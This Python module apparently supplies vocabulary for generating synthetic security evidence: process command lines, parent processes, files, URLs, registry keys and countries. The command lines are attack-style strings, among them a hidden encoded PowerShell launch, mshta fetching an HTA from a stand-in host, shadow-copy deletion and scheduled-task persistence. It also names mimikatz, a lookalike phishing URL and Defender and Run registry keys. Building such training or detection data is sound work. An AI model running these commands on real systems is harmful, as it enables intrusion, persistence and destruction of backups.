"""Vocabulary for evidence: processes, files, URLs, registry, places."""

from __future__ import annotations

PROCESSES = (
    (
        "powershell.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0",
        "powershell.exe -nop -w hidden -enc SQBFAFgA",
    ),
    ("rundll32.exe", r"C:\Windows\System32", r"rundll32.exe C:\Users\Public\update.dll,Start"),
    ("cmd.exe", r"C:\Windows\System32", r"cmd.exe /c whoami /all > C:\ProgramData\o.txt"),
    ("mshta.exe", r"C:\Windows\System32", "mshta.exe https://cdn-updates.example.net/a.hta"),
    ("wmic.exe", r"C:\Windows\System32\wbem", "wmic.exe shadowcopy delete /nointeractive"),
    (
        "schtasks.exe",
        r"C:\Windows\System32",
        r'schtasks.exe /create /tn "Updater" /tr C:\Users\Public\u.vbs',
    ),
)
PARENTS = (
    ("winword.exe", r"C:\Program Files\Microsoft Office\root\Office16"),
    ("explorer.exe", r"C:\Windows"),
    ("outlook.exe", r"C:\Program Files\Microsoft Office\root\Office16"),
    ("services.exe", r"C:\Windows\System32"),
)
# How each parent was itself started, as Windows does: (its command line, its own parent).
PARENT_STARTS = {
    "winword.exe": (r'"WINWORD.EXE" /n "C:\Users\Public\invoice_0231.docm"', "explorer.exe"),
    "explorer.exe": (r"C:\Windows\Explorer.EXE", "userinit.exe"),
    "outlook.exe": (r'"OUTLOOK.EXE" /recycle', "explorer.exe"),
    "services.exe": (r"C:\Windows\system32\services.exe", "wininit.exe"),
}
FILES = (
    ("invoice_0231.docm", r"C:\Users\{user}\Downloads"),
    ("update.dll", r"C:\Users\Public"),
    ("mimikatz.exe", r"C:\Temp"),
    ("a.hta", r"C:\Users\{user}\AppData\Local\Temp"),
    ("setup_x64.msi", r"C:\Users\{user}\Downloads"),
)
URLS = (
    "https://cdn-updates.example.net/a.hta",
    "https://login-micros0ft.example.com/owa",
    "http://198.51.100.23/gate.php",
    "https://files.example.org/share/invoice.zip",
)
REGISTRY = (
    ("HKEY_LOCAL_MACHINE", r"SOFTWARE\Microsoft\Windows\CurrentVersion\Run", "Updater"),
    ("HKEY_CURRENT_USER", r"Software\Microsoft\Windows\CurrentVersion\RunOnce", "svc"),
    ("HKEY_LOCAL_MACHINE", r"SYSTEM\CurrentControlSet\Services\WinDefend", "Start"),
)
COUNTRIES = (
    ("NL", "Netherlands", "Amsterdam"),
    ("US", "United States", "Ashburn"),
    ("RU", "Russia", "Moscow"),
    ("BR", "Brazil", "São Paulo"),
)
